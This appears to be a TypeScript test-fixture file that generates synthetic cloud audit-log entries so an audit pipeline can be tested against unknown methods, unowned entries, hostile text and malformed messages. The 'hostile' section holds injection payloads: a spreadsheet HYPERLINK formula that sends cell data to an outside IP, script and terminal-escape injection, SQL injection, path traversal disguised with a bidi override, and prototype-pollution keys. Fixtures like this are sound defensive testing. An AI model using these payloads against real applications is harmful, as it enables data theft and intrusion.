/** What an audit trail must survive: methods nobody has heard of, entries of somebody else, hostile text, wreckage. */
import { audit } from './audit.ts';
import { serviceAgent } from './callers.ts';
import { CLUSTERS, PROJECTS, REGION, dataprocAgent } from './company.ts';
import { simpleChange } from './dataproc-admin.ts';
import { submitJob } from './dataproc-jobs.ts';
import type { Draft, Subscription } from './entry.ts';
import { pyspark } from './plan.ts';
import { callOf, clock, endingOf, sceneOf } from './scene.ts';
import type { Scene } from './scene.ts';

/** A method that came after every reference. */
function newMethods(scene: Scene): readonly Draft[] {
  const parent = `projects/${PROJECTS.dev.id}/regions/${REGION}`;
  return ['11:20:00', '11:24:31'].map((time) =>
    simpleChange(
      callOf(scene, clock(time), 'anaAtLaptop', 'dev'),
      'JobController.SimulateJob',
      { name: `${parent}/jobs/simulation`, kind: 'Job', permission: 'dataproc.jobs.simulate' },
      { projectId: PROJECTS.dev.id, region: REGION, jobId: 'simulation' },
      CLUSTERS.dev,
    ),
  );
}

/** A sink's filter that is too wide: entries that belong to no source of the subscription. */
function unowned(scene: Scene): readonly Draft[] {
  const prod = PROJECTS.prod.id;
  const machines = ['06:20:31', '06:20:33'].map((time, i) =>
    audit({
      at: clock(time),
      to: 'dataproc',
      project: prod,
      service: 'compute.googleapis.com',
      method: 'v1.compute.instances.insert',
      caller: serviceAgent(dataprocAgent(PROJECTS.prod)),
      requestTime: `${scene.date}T${time}Z`,
      resourceName: `projects/${prod}/zones/${REGION}-b/instances/month-end-w-${String(i)}`,
      permissions: [
        {
          permission: 'compute.instances.create',
          resource: `projects/${prod}/zones/${REGION}-b/instances/month-end-w-${String(i)}`,
          permissionType: 'ADMIN_WRITE',
        },
      ],
      resource: {
        type: 'gce_instance',
        labels: { project_id: prod, zone: `${REGION}-b`, instance_id: scene.random.digits(19) },
      },
    }),
  );
  const cloudSql = audit({
    at: clock('15:09:15'),
    to: 'istio',
    project: PROJECTS.mesh.id,
    service: 'cloudsql.googleapis.com',
    method: 'cloudsql.instances.connect',
    log: 'data_access',
    caller: serviceAgent(`service-${PROJECTS.mesh.number}@gcp-sa-cloud-sql.iam.gserviceaccount.com`),
    requestTime: `${scene.date}T15:09:15Z`,
    resourceName: `projects/${PROJECTS.mesh.id}/instances/airflow`,
    resource: {
      type: 'cloudsql_database',
      labels: { project_id: PROJECTS.mesh.id, region: REGION, database_id: `${PROJECTS.mesh.id}:airflow` },
    },
  });
  return [...machines, cloudSql];
}

/** Text by an attacker in every field a caller may choose: escapes, bidi overrides, a formula, prototype keys, a path. */
function hostile(scene: Scene): readonly Draft[] {
  const at = clock('20:44:44');
  const call = callOf(scene, at, 'ivo', 'dev');
  return submitJob(
    { ...call, caller: { ...call.caller, userAgent: '\u001b[2J\u001b[31mgcloud <script>alert(1)</script>' } },
    {
      id: 'ivo-report-2',
      uuid: scene.random.uuid(),
      cluster: CLUSTERS.dev,
      work: pyspark('tmp/report.py', [
        '--title==HYPERLINK("http://203.0.113.66/?"&A1,"totals")',
        '--input=gs://acme-curated/../customers/\u202egpj.teuqrap',
        `--note=${"'; DROP TABLE Events; --".repeat(8)}`,
        '--password=correct-horse-battery',
      ]),
      labels: Object.fromEntries([
        ['__proto__', 'polluted'],
        ['constructor', 'polluted'],
        ['team', 'severity=DEBUG\nseverity: INFO'],
      ]),
    },
    endingOf(scene, at, 1300),
  );
}

export const unheardOf = (scene: Scene): readonly Draft[] => newMethods(sceneOf(scene, 'new-methods'));
export const unownedEntries = (scene: Scene): readonly Draft[] => unowned(sceneOf(scene, 'unowned'));
export const hostileEntries = (scene: Scene): readonly Draft[] => hostile(sceneOf(scene, 'hostile'));

interface Wreck {
  readonly at: number;
  readonly to: Subscription;
  readonly data: string;
}

/** Messages that are no log entry, made from ones that were. */
export function wrecks(whole: readonly string[]): readonly Wreck[] {
  const [first = '', second = '', third = '', fourth = ''] = whole;
  const cases: readonly (readonly [time: string, to: Subscription, data: string])[] = [
    ['03:02:11', 'dataproc', first.slice(0, Math.floor(first.length * 0.6))],
    ['06:45:20', 'istio', '\u0000\u0001\ufffd\ufffdJ\ufffd garbage, not base64 and not JSON'],
    ['07:20:00', 'dataflow', ''],
    ['09:09:09', 'dataproc', '"a sentence where an entry should be"'],
    ['10:30:30', 'istio', '42'],
    ['12:00:00', 'dataproc', second.replace(/"protoPayload":\{/, '"protoPayload":"lost","was":{')],
    ['13:37:00', 'dataproc', second.replace(/"timestamp":"[^"]*"/, '"timestamp":1790000000')],
    [
      '15:15:15',
      'dataflow',
      third.replace(/"(timestamp|receiveTimestamp)":"[^"]*",?/g, '').replace(',}', '}'),
    ],
    ['16:40:00', 'istio', fourth.replace(/"timestamp":"[^"]*"/, '"timestamp":"yesterday, about noon"')],
    [
      '19:25:41',
      'dataproc',
      second
        .replaceAll('"protoPayload"', '"protopayload"')
        .replaceAll('"insertId"', '"insertid"')
        .replaceAll('"logName"', '"logname"')
        .replaceAll('"methodName"', '"methodname"'),
    ],
    ['21:05:05', 'istio', `${'{"a":'.repeat(3000)}1${'}'.repeat(3000)}`],
    ['22:22:22', 'dataflow', '{"insertId":"only-this"}'],
  ];
  return cases.map(([time, to, data]) => ({ at: clock(time), to, data }));
}
